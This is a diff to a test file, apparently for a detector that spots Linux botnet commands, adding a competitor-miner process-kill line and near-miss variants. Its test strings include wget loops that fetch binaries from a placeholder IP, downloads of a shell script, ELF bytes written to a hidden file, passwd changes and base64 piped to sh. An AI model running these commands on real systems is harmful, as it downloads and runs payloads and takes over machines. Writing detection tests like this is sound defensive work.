@@ -41,6 +41,7 @@ describe("common linux bots: unique marks", () => {
     "for a in mips arm7 x86; do wget http://203.0.113.9/$a; done",
     "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .d",
     "while read i; do echo $i; done < /bin/echo",
+    "ps aux | grep -E 'upd|kinsing' | awk '{print $2}' | xargs kill -9",
     'echo -e "old\\nq1w2\\nq1w2"|passwd',
     `echo -ne '${"\\x07\\xac".repeat(12)}' >> .d`,
     "wget http://203.0.113.9/q.sh || curl -O http://203.0.113.9/q.sh",
@@ -80,6 +81,8 @@ test.each([
   "wget https://files.example/q.sh || curl -O https://files.example/q.sh",
   "cd /srv; echo ZWNobyBoaQo= | base64 -d | sh",
   "cd /tmp; echo ZWNobyBoaQo= | base64 -d > hi",
+  "ps aux | grep -E 'upd|worker' | awk '{print $2}' | xargs kill -9",
+  "ps aux | grep kinsing | awk '{print $2}' | xargs echo",
   'echo -e "q1w2\\nq1w2" | passwd app',
   `echo -ne '${"\\x07\\xac".repeat(12)}' >> image.bin`,
 ])("near miss in a line stays quiet: %s", (line) => {
